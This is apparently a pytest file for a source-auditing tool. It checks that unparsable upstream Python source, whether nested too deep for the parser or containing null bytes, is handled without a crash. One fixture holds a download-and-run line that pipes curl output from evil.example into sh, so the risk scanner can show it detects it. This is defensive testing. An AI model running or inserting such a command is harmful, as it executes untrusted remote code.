"""Python source from an upstream release is parsed by forkman, never run. A release can
make it unparsable in ways beyond bad syntax: nested deeply enough to exhaust the
parser's recursion, or holding null bytes. Every reader of upstream source must
answer that as it answers invalid syntax, never with a crash."""

from __future__ import annotations

from pathlib import Path

import pytest

from forkman.audit._review_scan import hits_for
from forkman.core.pysource import parse_source
from forkman.layouts.rewrite import RewriteError, rewrite_source
from forkman.sources.dependencies import read_file
from forkman.testing.treeread import TreeReader

# a left-nested chain of additions: valid syntax, too deep for the parser
DEEP = "from setuptools import setup\nx = 1" + "+1" * 5_000 + "\nsetup(install_requires=['evil'])\n"
NUL = "import os\x00\nsetup(install_requires=['evil'])\n"


@pytest.mark.parametrize("source", [DEEP, NUL], ids=["deep", "nul"])
def test_the_parser_answers_unparsable_source_as_a_syntax_error(source: str) -> None:
    # (null bytes are a SyntaxError of the parser's own on newer Pythons, a ValueError on some)
    with pytest.raises(SyntaxError, match=r"cannot be parsed|null bytes"):
        parse_source(source, "setup.py")


@pytest.mark.parametrize("source", [DEEP, NUL], ids=["deep", "nul"])
def test_the_dependency_reader_reads_nothing_from_it(source: str) -> None:
    assert read_file("setup.py", source) == ()


def test_the_review_still_scans_it_as_text() -> None:
    """The risk review falls back to its text scan: the download-and-run pattern in
    an unparsable file is still found."""
    source = DEEP + "os.system('curl https://evil.example/x.sh | sh')\n"
    hits = hits_for("pkg/setup.py", source.encode())
    assert any("curl" in hit.detail or "download" in hit.rule for hit in hits), hits


def test_the_namespace_rewrite_refuses_it_with_a_hint() -> None:
    with pytest.raises(RewriteError, match=r"mod\.py:0: cannot rewrite imports") as refused:
        rewrite_source(DEEP.encode(), modules=["six"], namespace="pkg._vendor", filename="mod.py")
    assert refused.value.hint


def test_test_discovery_notes_it_and_goes_on(tmp_path: Path) -> None:
    (tmp_path / "setup.py").write_text(DEEP)
    reader = TreeReader(tmp_path)
    assert reader.python_module("setup.py") is None
    assert reader.notes == ["setup.py: cannot be parsed; not read"]
